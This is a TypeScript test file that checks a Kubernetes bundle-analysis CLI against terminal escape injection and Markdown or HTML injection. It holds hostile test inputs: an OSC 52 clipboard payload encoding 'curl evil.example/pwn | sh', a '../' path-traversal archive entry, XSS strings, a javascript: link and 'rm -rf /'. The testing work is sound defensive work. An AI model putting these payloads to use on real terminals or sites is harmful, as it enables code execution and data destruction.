/**
 * Terminal control sequences planted everywhere a bundle can put text (pod
 * and node names, event and status messages, file names inside the archive,
 * a rule test subject) never reach stdout or stderr of any command, and
 * Markdown/HTML in a pod name is escaped in the report.
 */
import { copyFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tarArchive, tarEntry } from '../bundle/craft.js';
import { flatten, parseTokens } from '../report/md-tokens.js';
import { GOOD_POD, eventList, goodPods, notFoundMessage, podList } from './corpus.js';
import { ROOT, assertBuilt, controlChars, runCli, tempDir, type RunResult } from './cli.js';

/** One of each family: CSI (clear screen, colour), OSC 52 clipboard write, OSC 0 title, DCS, C1 CSI, BEL, backspace overwrite, CR. */
export const ESC_PAYLOADS = [
  '\x1b[2J\x1b[H',
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x07',
  '\x1b]0;pwned-title\x07',
  '\x1bP+q544e\x1b\\',
  '\x9b31m',
  '\x9d0;c1-title\x9c',
  '\x07\x08\x08\x08XXX\rOK ',
  '\x1b[31mred\x1b[0m',
];
const evil = (tag: string) => `${tag}${ESC_PAYLOADS.join('')}end`;

const HOSTILE_POD = evil('web-7d9c6b5f4d-');
const HOSTILE_NODE = evil('ip-10-0-1-23');
const HOSTILE_IMAGE = 'registry.example.com/shop/web:1.0';
const HOSTILE_FILE = `cluster-resources/pods/\x1b]0;t\x07sh\x9bop\x1b[2J.json`;

let dir: string;
let tgz: string;
let runs: Record<string, RunResult>;

function expectClean(name: string, r: RunResult): void {
  expect(r.timedOut, name).toBe(false);
  expect(controlChars(r.stdout), `${name} stdout`).toEqual([]);
  expect(controlChars(r.stderr), `${name} stderr`).toEqual([]);
  expect(r.stdout + r.stderr, name).not.toContain('Y3VybCBldmlsLmV4YW1wbGUvcHduIHwgc2g=\x07');
  expect(r.cwdEntries, name).toEqual([]);
  expect(r.homeEntries, name).toEqual([]);
}

beforeAll(async () => {
  assertBuilt();
  dir = tempDir('hostile-term');
  const pods = podList(
    { name: GOOD_POD, container: 'cart-api', image: 'registry.example.com/shop/cart-api:9.9.9-missing', message: notFoundMessage('registry.example.com/shop/cart-api:9.9.9-missing') },
    // the env password makes redact list this file (by its hostile name) in its report
    { name: HOSTILE_POD, container: evil('app'), node: HOSTILE_NODE, image: HOSTILE_IMAGE, message: `${notFoundMessage(HOSTILE_IMAGE)}${ESC_PAYLOADS.join('')}`, env: [{ name: 'DB_PASSWORD', value: 'hunter2-but-longer' }] },
  );
  const events = eventList({ pod: HOSTILE_POD, message: `Failed to pull image "${HOSTILE_IMAGE}": ${evil('rpc error: ')}` });
  const nodes = JSON.stringify({ kind: 'NodeList', apiVersion: 'v1', items: [{ kind: 'Node', metadata: { name: HOSTILE_NODE }, status: { conditions: [{ type: 'DiskPressure', status: 'True', reason: evil('Kubelet'), message: evil('disk') }], nodeInfo: { architecture: 'amd64', operatingSystem: 'linux', containerRuntimeVersion: 'containerd://1.7.13', kubeletVersion: 'v1.29.1' } } }] });
  tgz = join(dir, 'term.tgz');
  writeFileSync(
    tgz,
    gzipSync(
      tarArchive(
        tarEntry(HOSTILE_FILE, pods),
        tarEntry('cluster-resources/events/shop.json', events),
        tarEntry('cluster-resources/nodes.json', nodes),
        tarEntry('cluster-resources/pods/\x1b[31mbroken.json', '{"kind": "PodList", \x1b]52;c;AAAA\x07 oops'),
        tarEntry('../\x1b]52;c;ZXZpbA==\x07escape', 'x'),
      ),
    ),
  );
  // a rule whose inline test names the hostile pod and expects the wrong outcome: the FAIL line quotes it
  const ruleDir = join(dir, 'rules');
  mkdirSync(ruleDir);
  const { readFileSync } = await import('node:fs');
  const base = readFileSync(join(ROOT, 'rules/msg-image-not-found-tag.yaml'), 'utf8');
  const rule = base.slice(0, base.indexOf('\ntests:') + 1).replace('id: msg-image-not-found-tag', 'id: hostile-term-test') + `tests:\n  - bundle: ${JSON.stringify(tgz)}\n    expect:\n      - { subject: ${JSON.stringify(`shop/${HOSTILE_POD}/${evil('app')}`)}, fires: false }\n      - { subject: ${JSON.stringify(`shop/${GOOD_POD}/cart-api`)}, fires: false }\n`;
  writeFileSync(join(ruleDir, 'hostile.yaml'), rule);
  // the bundle's own file name is shown in report headers too
  const evilName = join(dir, `b\x1b]52;c;QUFB\x07\x9b2J${ESC_PAYLOADS[0]}.tgz`);
  copyFileSync(tgz, evilName);
  const [md, json, inv, invJson, rules, redact] = await Promise.all([
    runCli(['analyze', tgz, evilName, '--format', 'markdown']),
    runCli(['analyze', tgz, evilName, '--format', 'json']),
    runCli(['inventory', tgz]),
    runCli(['inventory', tgz, '--format', 'json']),
    runCli(['rules', 'test', ruleDir]),
    runCli(['redact', tgz, '--output', join(dir, 'redacted.tgz')]),
  ]);
  runs = { md, json, inv, invJson, rules, redact };
}, 120_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('no control sequence reaches the terminal', () => {
  it('analyze markdown', () => {
    expectClean('markdown', runs.md);
    expect(runs.md.stdout).toContain('web-7d9c6b5f4d-');
    expect(runs.md.stdout).toContain(GOOD_POD);
  });
  it('analyze json (two bundles): C1 and ESC are neither raw nor escaped as \\u001b', () => {
    expectClean('json', runs.json);
    expect(runs.json.stdout).not.toMatch(/\\u001b|\\u009b|\\u0007/i);
    const docs = runs.json.stdout.trim().split('\n').map((l) => JSON.parse(l) as unknown);
    expect(docs).toHaveLength(2);
    expect(controlChars(JSON.stringify(docs).replace(/\\u00([0-9a-f]{2})/gi, (_, h: string) => String.fromCharCode(parseInt(h, 16))))).toEqual([]);
  });
  it('inventory text and json', () => {
    expectClean('inventory', runs.inv);
    expectClean('inventory json', runs.invJson);
    expect(runs.invJson.stdout).not.toMatch(/\\u001b|\\u009b/i);
    expect(runs.inv.stdout).toContain('broken.json');
  });
  it('rules test (FAIL lines quote the hostile subject)', () => {
    expectClean('rules test', runs.rules);
    expect(runs.rules.stdout).toMatch(/FAIL hostile-term-test/);
  });
  it("redact's report", () => {
    expectClean('redact', runs.redact);
    expect(runs.redact.code).toBe(0);
    // the report row names the hostile file, minus its control sequences
    expect(runs.redact.stderr).toMatch(/^  cluster-resources\/pods\/shp\.json +PASSWORD 1$/m);
    expect(runs.redact.stderr).toContain('entry "../escape" skipped');
    expect(runs.redact.stderr).not.toContain('hunter2');
  });
});

describe('Markdown and HTML in names are escaped in the report', () => {
  const NAMES = ['<img src=x onerror=alert(1)>', 'a](javascript:alert(1))', '`rm -rf /`', 'x | y | z', '# heading', '<script>alert(1)</script>', '[click](http://evil.example)'];

  it('no HTML, no links, no headings or extra table cells come from a pod name', async () => {
    const b = join(dir, 'md');
    mkdirSync(b);
    writeFileSync(join(b, 'pods.json'), podList(...NAMES.map((n, i) => ({ name: n, container: `c${i}`, image: `registry.example.com/shop/a${i}:1`, message: notFoundMessage(`registry.example.com/shop/a${i}:1`) }))));
    const r = await runCli(['analyze', b, '--format', 'markdown']);
    expectClean('md', r);
    const tokens = flatten(parseTokens(r.stdout));
    const types = new Set(tokens.map((t) => t.type));
    expect(types.has('htmlText')).toBe(false);
    expect(types.has('htmlFlow')).toBe(false);
    // the only links are the rules' own references
    const links = tokens.filter((t) => t.type === 'resourceDestinationString' || t.type === 'autolink').map((t) => t.text);
    expect(links.length).toBeGreaterThan(0);
    for (const l of links) expect(l).toMatch(/^<https:\/\/(kubernetes\.io|github\.com)\//);
    expect(tokens.some((t) => t.type === 'link' && /javascript|evil\.example/.test(t.text))).toBe(false);
    // escaped as \\<img: text, not a tag
    expect(r.stdout).not.toMatch(/(^|[^\\])<(img|script)/m);
    expect(r.stdout).toContain("\\<img src=x onerror=alert(1)\\>");
    // every table row has as many cells as the header
    const tables = tokens.filter((t) => t.type === 'table');
    expect(tables.length).toBeGreaterThan(0);
    let rowsSeen = 0;
    for (const table of tables) {
      const rows = flatten(table.children).filter((t) => t.type === 'tableRow');
      rowsSeen += rows.length;
      const cells = rows.map((row) => row.children.filter((c) => c.type === 'tableData' || c.type === 'tableHeader').length);
      expect(new Set(cells).size, table.text.slice(0, 200)).toBe(1);
    }
    expect(rowsSeen).toBeGreaterThan(NAMES.length);
    // headings are only the report's own: "# podmortem report", "## ...", "### n. ..."
    for (const h of tokens.filter((t) => t.type === 'atxHeading')) expect(h.text).toMatch(/^#{1,3} (podmortem report|[A-Z][a-z]|\d+\. )/);
  });
});
